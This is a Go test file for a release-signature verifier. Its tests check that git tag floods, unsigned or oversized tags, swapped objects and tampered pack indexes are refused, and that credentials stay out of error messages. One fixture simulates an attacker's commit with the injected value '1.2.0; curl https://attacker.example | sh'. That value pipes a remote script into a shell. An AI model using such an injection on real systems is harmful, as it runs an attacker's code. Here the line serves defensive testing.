package release

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tamperguard/tamperguard/internal/checksum"
)

// copyFixtureRepo copies testdata/git/uploader.git to root/uploader.git.
func copyFixtureRepo(t *testing.T, root string) string {
	t.Helper()
	dir := filepath.Join(root, "uploader.git")
	require.NoError(t, os.CopyFS(dir, os.DirFS(fixture(t, "git", "uploader.git"))))
	return dir
}

// An attacker who can push tags pushes 32 newer ones (lightweight, or annotated and
// unsigned). They are refused from the listing or from their small tag objects, cost no
// candidate budget, and the signed release is still found.
func TestGitTagFloodDoesNotHideTheRelease(t *testing.T) {
	for _, kind := range []string{"lightweight", "unsigned"} {
		for _, where := range []string{"local", "remote"} {
			t.Run(kind+"/"+where, func(t *testing.T) {
				ctx := context.Background()
				root := t.TempDir()
				dir := copyFixtureRepo(t, root)
				for i := 0; i < 32; i++ {
					name := fmt.Sprintf("v9.0.%d", i)
					if kind == "lightweight" {
						runGit(t, dir, "tag", name, "main")
					} else {
						runGit(t, dir, "tag", "-a", "-m", "not a release", name, "main")
					}
				}
				repo := dir
				var srv *gitServer
				if where == "remote" {
					srv = serveGit(t, root, gitServerOpts{})
					repo = srv.URL + "/uploader.git"
				}
				src, err := NewGit(repo, "SHA256SUMS", maintainerKeys(t))
				require.NoError(t, err)

				rel, err := NewResolver(ResolverOptions{}).Resolve(ctx, src, Latest, time.Time{})
				require.NoError(t, err)
				assert.Equal(t, "v1.2.0", rel.Tag)
				require.NotEmpty(t, rel.Skipped)
				assert.Equal(t, "v9.0.31", rel.Skipped[0].Tag)
				assert.ErrorIs(t, rel.Skipped[0].Reason, ErrUnsigned)
				assert.Len(t, rel.Skipped, 35, "every refused tag newer than the release: the 32 pushed, v1.5.0, v1.4.0 and v1.3.0")
				if srv != nil && kind == "lightweight" {
					// Lightweight tags are told from the listing: the only fetches are the
					// signed tags' objects, then v1.2.0's commit and checksum file.
					fetches, _ := srv.counts()
					assert.LessOrEqual(t, fetches, 3)
				}

				cands, refused, err := src.ListCandidates(ctx)
				require.NoError(t, err)
				var verified []string
				for _, c := range cands {
					verified = append(verified, c.Tag)
					assert.False(t, c.Time.IsZero(), "a verified tag carries its signed tagger time")
				}
				assert.ElementsMatch(t, []string{"v1.0.0", "v1.1.0", "v1.2.0"}, verified)
				require.NotEmpty(t, refused)
				assert.Equal(t, "v9.0.31", refused[0].Tag, "newest first")
				flood := 0
				for _, s := range refused {
					if strings.HasPrefix(s.Tag, "v9.0.") {
						flood++
						assert.ErrorIs(t, s.Reason, ErrUnsigned, s.Tag)
					}
				}
				assert.Equal(t, 32, flood, "every refused tag is listed with its reason")
			})
		}
	}
}

// An unsigned tag whose commit carries a large file costs the tag object only: nothing
// beneath it is fetched before its signature would have verified.
func TestGitUnsignedTagFetchesOnlyItsTagObject(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	key, keys := gitSSHSigner(t)
	r := newGitTestRepo(t, root, "project.git")
	r.key = key
	r.commit(gitReleaseFiles(t, "1.0.0", nil))
	r.signedTag("v1.0.0")
	r.commit(map[string][]byte{"big.bin": gitRandom(t, 2<<20)})
	r.git("tag", "-a", "-m", "Release v9.9.9", "v9.9.9")

	for _, filter := range []bool{false, true} {
		t.Run(fmt.Sprintf("filter=%v", filter), func(t *testing.T) {
			srv := serveGit(t, root, gitServerOpts{filter: filter})
			src, err := NewGit(srv.URL+"/project.git", "SHA256SUMS", keys)
			require.NoError(t, err)
			_, err = src.Fetch(ctx, "v9.9.9")
			require.ErrorIs(t, err, ErrUnsigned)
			fetches, n := srv.counts()
			assert.Equal(t, 1, fetches)
			assert.Less(t, n, int64(64<<10), "only the tag object was sent")

			rel, err := NewResolver(ResolverOptions{}).Resolve(ctx, src, Latest, time.Time{})
			require.NoError(t, err)
			assert.Equal(t, "v1.0.0", rel.Tag)
			_, n = srv.counts()
			assert.Less(t, n, int64(256<<10), "the large file was never fetched")
		})
	}
}

// A tag object larger than what is read before a signature is checked is refused by its
// declared size, and does not keep the other tags from being checked.
func TestGitOversizedTagObjectRefused(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	key, keys := gitSSHSigner(t)
	r := newGitTestRepo(t, root, "project.git")
	r.key = key
	r.commit(gitReleaseFiles(t, "1.0.0", nil))
	r.signedTag("v1.0.0")
	msg := filepath.Join(t.TempDir(), "msg")
	// Incompressible text, so that the server cannot send it cheaply either.
	require.NoError(t, os.WriteFile(msg, []byte(base64.StdEncoding.EncodeToString(gitRandom(t, 768<<10))), 0o600))
	r.git("tag", "-a", "-F", msg, "v9.9.9")

	for _, where := range []string{"local", "remote"} {
		t.Run(where, func(t *testing.T) {
			repo := r.dir
			if where == "remote" {
				repo = serveGit(t, root, gitServerOpts{}).URL + "/project.git"
			}
			src, err := NewGit(repo, "SHA256SUMS", keys)
			require.NoError(t, err)
			_, err = src.Fetch(ctx, "v9.9.9")
			require.ErrorIs(t, err, ErrInvalid)
			assert.NotErrorIs(t, err, ErrUnsigned, "refused before it was parsed")
			assert.Contains(t, err.Error(), "over the limit of 262144")
			assert.Contains(t, err.Error(), "v9.9.9")

			rel, err := NewResolver(ResolverOptions{}).Resolve(ctx, src, Latest, time.Time{})
			require.NoError(t, err)
			assert.Equal(t, "v1.0.0", rel.Tag)
			require.Len(t, rel.Skipped, 1)
			assert.Equal(t, "v9.9.9", rel.Skipped[0].Tag)
			assert.ErrorIs(t, rel.Skipped[0].Reason, ErrInvalid)
		})
	}
}

// A local repository is not trusted byte for byte: the loose object of the commit a
// signed tag points at, swapped for the attacker's commit, is refused.
func TestGitLocalSwappedLooseObjectRefused(t *testing.T) {
	ctx := context.Background()
	dir := copyFixtureRepo(t, t.TempDir())
	signed := runGit(t, dir, "rev-parse", "v1.2.0^{commit}")

	// The attacker's commit: the same layout, with their own script and checksum file.
	evil := newGitTestRepo(t, t.TempDir(), "evil.git")
	evil.commit(gitReleaseFiles(t, "1.2.0; curl https://attacker.example | sh", nil))
	evilCommit := evil.git("rev-parse", "HEAD")
	// Copy the attacker's objects in (as a push would) and put their commit's bytes where
	// the signed commit's loose object would be.
	require.NoError(t, os.CopyFS(filepath.Join(dir, "objects"), os.DirFS(filepath.Join(evil.dir, "objects"))))
	b, err := os.ReadFile(filepath.Join(evil.dir, "objects", evilCommit[:2], evilCommit[2:]))
	require.NoError(t, err)
	require.NoError(t, os.MkdirAll(filepath.Join(dir, "objects", signed[:2]), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "objects", signed[:2], signed[2:]), b, 0o444))

	src, err := NewGit(dir, "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	_, err = src.Fetch(ctx, "v1.2.0")
	require.ErrorIs(t, err, ErrGitIntegrity)
	assert.ErrorIs(t, err, ErrInvalid)
	assert.True(t, Refused(err))
	assert.Contains(t, err.Error(), signed)

	// The other signed tags, whose objects are intact, still verify.
	rel, err := src.Fetch(ctx, "v1.1.0")
	require.NoError(t, err)
	assert.Equal(t, "v1.1.0", rel.Tag)
}

// An edited pack index that maps the signed commit's id to another commit's bytes is
// refused the same way.
func TestGitLocalTamperedPackIndexRefused(t *testing.T) {
	dir := copyFixtureRepo(t, t.TempDir())
	a := runGit(t, dir, "rev-parse", "v1.2.0^{commit}")
	b := runGit(t, dir, "rev-parse", "v1.1.0^{commit}")
	idxs, err := filepath.Glob(filepath.Join(dir, "objects", "pack", "*.idx"))
	require.NoError(t, err)
	require.Len(t, idxs, 1)
	swapIndexOffsets(t, idxs[0], a, b)

	src, err := NewGit(dir, "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	_, err = src.Fetch(context.Background(), "v1.2.0")
	require.ErrorIs(t, err, ErrGitIntegrity)
	assert.Contains(t, err.Error(), a)
}

// swapIndexOffsets swaps the pack offsets of two objects in a version 2 pack index.
func swapIndexOffsets(t *testing.T, idxPath, a, b string) {
	t.Helper()
	idx, err := os.ReadFile(idxPath)
	require.NoError(t, err)
	require.NoError(t, os.Chmod(idxPath, 0o644))
	n := int(binary.BigEndian.Uint32(idx[8+255*4:]))
	names := 8 + 256*4
	offs := names + n*24
	pos := func(h string) int {
		want, err := hex.DecodeString(h)
		require.NoError(t, err)
		for i := 0; i < n; i++ {
			if bytes.Equal(idx[names+i*20:names+i*20+20], want) {
				return offs + i*4
			}
		}
		t.Fatalf("%s not in the index", h)
		return 0
	}
	pa, pb := pos(a), pos(b)
	var tmp [4]byte
	copy(tmp[:], idx[pa:pa+4])
	copy(idx[pa:pa+4], idx[pb:pb+4])
	copy(idx[pb:pb+4], tmp[:])
	require.NoError(t, os.WriteFile(idxPath, idx, 0o644))
}

// A token in the repository URL is sent to that host as HTTP basic credentials and
// appears in no key, release, or error.
func TestGitCredentialsNeverShown(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	copyFixtureRepo(t, root)
	srv := serveGit(t, root, gitServerOpts{})
	const secret = "ghs_S3cretT0kenValue1234567890"
	withToken := func(base string) string {
		return strings.Replace(base, "http://", "http://x-access-token:"+secret+"@", 1)
	}
	src, err := NewGit(withToken(srv.URL)+"/uploader.git", "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	assert.Equal(t, "git "+srv.URL+"/uploader.git", src.Key())

	rel, err := src.Fetch(ctx, "v1.2.0")
	require.NoError(t, err)
	assert.NotContains(t, rel.Source, secret)
	assert.NotContains(t, rel.Name(), secret)
	require.NotEmpty(t, srv.auth)
	assert.Equal(t, "Basic "+base64.StdEncoding.EncodeToString([]byte("x-access-token:"+secret)), srv.auth[0])

	var errs []error
	_, err = src.Fetch(ctx, "v8.0.0")
	assert.ErrorIs(t, err, ErrNotFound)
	errs = append(errs, err)
	_, err = src.Fetch(ctx, "v1.4.0")
	assert.Error(t, err)
	errs = append(errs, err)
	_, refused, err := src.ListCandidates(ctx)
	require.NoError(t, err)
	for _, s := range refused {
		errs = append(errs, s.Reason)
	}

	// A server that is down, one that refuses the credentials, and one that echoes them.
	down := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusBadGateway) }))
	defer down.Close()
	denied := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusUnauthorized) }))
	defer denied.Close()
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodGet {
			w.Header().Set("Content-Type", gitUploadPackAdvert)
			io.WriteString(w, "000eversion 2\n0013ls-refs=unborn\n0019fetch=shallow filter\n0000")
			return
		}
		w.Header().Set("Content-Type", gitUploadPackResult)
		u, p, _ := r.BasicAuth()
		msg := "ERR access denied for " + u + ":" + p + " (" + r.Header.Get("Authorization") + ")\n"
		fmt.Fprintf(w, "%04x%s", len(msg)+4, msg)
	}))
	defer echo.Close()
	for _, s := range []*httptest.Server{down, denied, echo} {
		other, err := NewGit(withToken(s.URL)+"/x.git", "SHA256SUMS", maintainerKeys(t))
		require.NoError(t, err)
		_, err = other.Fetch(ctx, "v1.0.0")
		require.Error(t, err)
		assert.ErrorIs(t, err, ErrUnreachable)
		errs = append(errs, err)
		_, err = other.Candidates(ctx)
		require.Error(t, err)
		errs = append(errs, err)
	}
	for _, bad := range []string{"https://x-access-token:" + secret + "@exa mple.com/x.git", "ssh://git:" + secret + "@example.com/x.git"} {
		_, err := NewGit(bad, "SHA256SUMS", maintainerKeys(t))
		require.Error(t, err)
		errs = append(errs, err)
	}
	for _, err := range errs {
		assert.NotContains(t, err.Error(), secret)
		assert.NotContains(t, err.Error(), base64.StdEncoding.EncodeToString([]byte("x-access-token:"+secret)))
	}
}

// A re-resolution that finds the same tag object ids fetches nothing again.
func TestGitCacheByTagObjectID(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	dir := copyFixtureRepo(t, root)
	srv := serveGit(t, root, gitServerOpts{})
	src, err := NewGit(srv.URL+"/uploader.git", "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	rel, err := NewResolver(ResolverOptions{}).Resolve(ctx, src, Latest, time.Time{})
	require.NoError(t, err)
	require.Equal(t, "v1.2.0", rel.Tag)
	first, _ := srv.counts()
	require.Positive(t, first)

	// A fresh resolver (a new lookup, nothing cached there) over the same source.
	rel, err = NewResolver(ResolverOptions{}).Resolve(ctx, src, Latest, time.Time{})
	require.NoError(t, err)
	assert.Equal(t, "v1.2.0", rel.Tag)
	again, _ := srv.counts()
	assert.Equal(t, first, again, "same tag objects: nothing fetched")
	assert.Equal(t, runGit(t, dir, "rev-parse", "v1.2.0"), rel.TagObject)

	// A new tag object is fetched (and only it).
	runGit(t, dir, "tag", "-a", "-m", "unsigned", "v1.9.0", "main")
	_, err = NewResolver(ResolverOptions{}).Resolve(ctx, src, Latest, time.Time{})
	require.NoError(t, err)
	after, _ := srv.counts()
	assert.Equal(t, again+1, after)
}

// A server that can filter (partial clone) sends the signed commit with its root tree, and
// the checksum file; the release file only when it is opened. Nested checksum paths walk
// one tree at a time.
func TestGitPartialFetch(t *testing.T) {
	for _, dir := range []string{"", "dist/"} {
		t.Run("checksums="+dir+"SHA256SUMS", func(t *testing.T) {
			ctx := context.Background()
			root := t.TempDir()
			big := gitRandom(t, 1<<20)
			files := gitReleaseFiles(t, "1.0.0", map[string][]byte{"big.bin": big})
			nested := map[string][]byte{"README": []byte("readme\n"), "other/huge.bin": gitRandom(t, 2<<20)}
			for k, v := range files {
				nested[dir+k] = v
			}
			key, keys := gitSSHSigner(t)
			r := newGitTestRepo(t, root, "project.git")
			r.key = key
			r.commit(nested)
			r.signedTag("v1.0.0")
			srv := serveGit(t, root, gitServerOpts{filter: true})
			src, err := NewGit(srv.URL+"/project.git", dir+"SHA256SUMS", keys)
			require.NoError(t, err)

			rel, err := src.Fetch(ctx, "v1.0.0")
			require.NoError(t, err)
			assert.Equal(t, "ssh", rel.Signer.Scheme)
			_, n := srv.counts()
			assert.Less(t, n, int64(64<<10), "no file beneath the checksum file's path was fetched")

			for name, want := range map[string][]byte{"big.bin": big, "install.sh": files["install.sh"]} {
				f, err := rel.Open(ctx, name)
				require.NoError(t, err)
				b, err := io.ReadAll(f)
				require.NoError(t, err)
				require.NoError(t, f.Close())
				assert.Equal(t, want, b)
				e, err := rel.Lookup(name)
				require.NoError(t, err)
				assert.Equal(t, e.Digest, checksum.Digest(sha256.Sum256(b)))
			}
			_, n = srv.counts()
			assert.Less(t, n, int64(1<<20+256<<10), "other/huge.bin was never fetched")
		})
	}
}

// Without filter support the signed commit's whole tree is streamed through, bounded.
func TestGitFallbackBounded(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	key, keys := gitSSHSigner(t)
	r := newGitTestRepo(t, root, "project.git")
	r.key = key
	r.commit(gitReleaseFiles(t, "1.0.0", map[string][]byte{"big.bin": gitRandom(t, 2<<20)}))
	r.signedTag("v1.0.0")
	srv := serveGit(t, root, gitServerOpts{})

	src, err := NewGit(srv.URL+"/project.git", "SHA256SUMS", keys)
	require.NoError(t, err)
	rel, err := src.Fetch(ctx, "v1.0.0")
	require.NoError(t, err)
	f, err := rel.Open(ctx, "big.bin")
	require.NoError(t, err)
	sum, _, err := hashAll(f)
	require.NoError(t, err)
	e, err := rel.Lookup("big.bin")
	require.NoError(t, err)
	assert.Equal(t, e.Digest, sum)

	small, err := NewGit(srv.URL+"/project.git", "SHA256SUMS", keys)
	require.NoError(t, err)
	small.lim.fallbackPack = 1 << 20
	_, err = small.Fetch(ctx, "v1.0.0")
	require.ErrorIs(t, err, ErrInvalid)
	assert.Contains(t, err.Error(), "over the limit of 1048576")
}

func hashAll(r io.ReadCloser) (checksum.Digest, int64, error) {
	defer r.Close()
	h := sha256.New()
	n, err := io.Copy(h, r)
	var d checksum.Digest
	copy(d[:], h.Sum(nil))
	return d, n, err
}

// A server that advertises filtering but refuses the tree filter is read without it.
func TestGitRemoteRefusedFilterFallsBack(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	key, keys := gitSSHSigner(t)
	r := newGitTestRepo(t, root, "project.git")
	r.key = key
	r.commit(gitReleaseFiles(t, "1.0.0", map[string][]byte{"dist/x": []byte("x\n")}))
	r.signedTag("v1.0.0")
	srv := serveGit(t, root, gitServerOpts{refuseTreeFilter: true})
	src, err := NewGit(srv.URL+"/project.git", "SHA256SUMS", keys)
	require.NoError(t, err)
	rel, err := src.Fetch(ctx, "v1.0.0")
	require.NoError(t, err)
	assert.Equal(t, "v1.0.0", rel.Tag)
	remote := src.backend.(*gitRemote)
	c, err := remote.advertise(ctx)
	require.NoError(t, err)
	assert.True(t, c.filter, "the server advertises filtering")
	assert.False(t, remote.caps.filter, "and refused the tree filter, so it is no longer used")
	f, err := rel.Open(ctx, "dist/x")
	require.NoError(t, err)
	b, err := io.ReadAll(f)
	require.NoError(t, err)
	require.NoError(t, f.Close())
	assert.Equal(t, "x\n", string(b))
}

// A server that does not speak protocol v2 is named as such.
func TestGitRemoteNeedsProtocolV2(t *testing.T) {
	root := t.TempDir()
	copyFixtureRepo(t, root)
	srv := serveGit(t, root, gitServerOpts{v0: true})
	src, err := NewGit(srv.URL+"/uploader.git", "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	_, err = src.Fetch(context.Background(), "v1.2.0")
	require.ErrorIs(t, err, ErrUnreachable)
	assert.Contains(t, err.Error(), "does not speak git protocol version 2")
}

// A lightweight tag is refused from the listing, without any fetch.
func TestGitRemoteLightweightTagNeedsNoFetch(t *testing.T) {
	root := t.TempDir()
	copyFixtureRepo(t, root)
	srv := serveGit(t, root, gitServerOpts{})
	src, err := NewGit(srv.URL+"/uploader.git", "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	_, err = src.Fetch(context.Background(), "v1.5.0")
	require.ErrorIs(t, err, ErrUnsigned)
	assert.Contains(t, err.Error(), "lightweight")
	fetches, _ := srv.counts()
	assert.Zero(t, fetches)
}

func TestNewGitRefusesOtherTransports(t *testing.T) {
	keys := maintainerKeys(t)
	for _, u := range []string{"ssh://git@example.com/x.git", "git://example.com/x.git", "git@example.com:x/y.git", "http://example.com/x.git", "https://example.com/x.git?a=b"} {
		_, err := NewGit(u, "SHA256SUMS", keys)
		require.Error(t, err, u)
		assert.Contains(t, err.Error(), "https", u)
	}
}

// The sizes that used to exhaust the function (bench/gitmem prints the memory they take).
func TestGitHugeObjectsSlow(t *testing.T) {
	if os.Getenv("TAMPERGUARD_SLOW_TESTS") == "" {
		t.Skip("builds 768 MiB and 512 MiB objects; set TAMPERGUARD_SLOW_TESTS=1 to run")
	}
	ctx := context.Background()
	root := t.TempDir()
	key, keys := gitSSHSigner(t)
	r := newGitTestRepo(t, root, "project.git")
	r.key = key
	head := r.commit(gitReleaseFiles(t, "1.0.0", nil))
	r.signedTag("v1.0.0")

	// An unsigned v9.9.9 over a 768 MiB file of zeros (sparse on disk).
	zeros := filepath.Join(t.TempDir(), "zeros")
	require.NoError(t, os.WriteFile(zeros, nil, 0o600))
	require.NoError(t, os.Truncate(zeros, 768<<20))
	blob := r.git("hash-object", "-w", zeros)
	tree := runGitStdin(t, r.work, "100644 blob "+blob+"\tzeros.bin\n", "--git-dir="+r.dir, "mktree")
	commit := r.git("commit-tree", tree, "-p", head, "-m", "not a release")
	r.git("tag", "-a", "-m", "not a release", "v9.9.9", commit)

	// An unsigned v9.9.8 whose message is 512 MiB.
	tagFile := filepath.Join(t.TempDir(), "tag")
	f, err := os.Create(tagFile)
	require.NoError(t, err)
	fmt.Fprintf(f, "object %s\ntype commit\ntag v9.9.8\ntagger A <a@example.org> 1750000000 +0000\n\n", head)
	line := []byte(strings.Repeat("A", 1023) + "\n")
	for i := 0; i < 512*1024; i++ {
		_, err := f.Write(line)
		require.NoError(t, err)
	}
	require.NoError(t, f.Close())
	r.git("update-ref", "refs/tags/v9.9.8", r.git("hash-object", "-t", "tag", "--literally", "-w", tagFile))
	require.NoError(t, os.Remove(tagFile))
	r.git("gc", "-q") // packed, as a hosted repository keeps it

	// Only tag objects are read before a signature verified, so whether the server can
	// filter does not matter here (bench/gitmem measures both).
	plain := serveGit(t, root, gitServerOpts{})
	for _, repo := range []string{r.dir, plain.URL + "/project.git"} {
		src, err := NewGit(repo, "SHA256SUMS", keys)
		require.NoError(t, err)
		_, err = src.Fetch(ctx, "v9.9.9")
		assert.ErrorIs(t, err, ErrUnsigned, repo)
		_, err = src.Fetch(ctx, "v9.9.8")
		assert.ErrorIs(t, err, ErrInvalid, repo)
		rel, err := NewResolver(ResolverOptions{}).Resolve(ctx, src, Latest, time.Time{})
		require.NoError(t, err, repo)
		assert.Equal(t, "v1.0.0", rel.Tag)
	}
	_, n := plain.counts()
	assert.Less(t, n, int64(1<<20), "the zeros were never sent")
}

func runGitStdin(t *testing.T, dir, stdin string, args ...string) string {
	t.Helper()
	return strings.TrimSpace(string(gitOutput(t, dir, stdin, args...)))
}

// The capability advertisement may redirect (a renamed repository, here moved to another
// host); commands then go where it led, and credentials only ever to the configured origin.
func TestGitRemoteRedirect(t *testing.T) {
	ctx := context.Background()
	root := t.TempDir()
	copyFixtureRepo(t, root)
	srv := serveGit(t, root, gitServerOpts{})
	var sawAuth []string
	front := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		sawAuth = append(sawAuth, r.Header.Get("Authorization"))
		switch r.URL.Path {
		case "/old.git/info/refs":
			http.Redirect(w, r, "/moved.git/info/refs?"+r.URL.RawQuery, http.StatusMovedPermanently)
		case "/moved.git/info/refs":
			http.Redirect(w, r, srv.URL+"/uploader.git/info/refs?"+r.URL.RawQuery, http.StatusFound)
		case "/loop.git/info/refs":
			http.Redirect(w, r, r.URL.String(), http.StatusFound)
		default:
			http.NotFound(w, r)
		}
	}))
	defer front.Close()

	u := strings.Replace(front.URL, "http://", "http://user:hunter2-secret@", 1)
	src, err := NewGit(u+"/old.git", "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	rel, err := src.Fetch(ctx, "v1.2.0")
	require.NoError(t, err)
	assert.Equal(t, "git "+front.URL+"/old.git", rel.Source)
	srv.mu.Lock()
	assert.Empty(t, srv.auth, "no credentials sent to another origin")
	srv.mu.Unlock()
	assert.Contains(t, sawAuth, "Basic "+base64.StdEncoding.EncodeToString([]byte("user:hunter2-secret")))

	loop, err := NewGit(u+"/loop.git", "SHA256SUMS", maintainerKeys(t))
	require.NoError(t, err)
	_, err = loop.Fetch(ctx, "v1.2.0")
	require.ErrorIs(t, err, ErrUnreachable)
	assert.Contains(t, err.Error(), "redirects")
	assert.NotContains(t, err.Error(), "hunter2-secret")
}
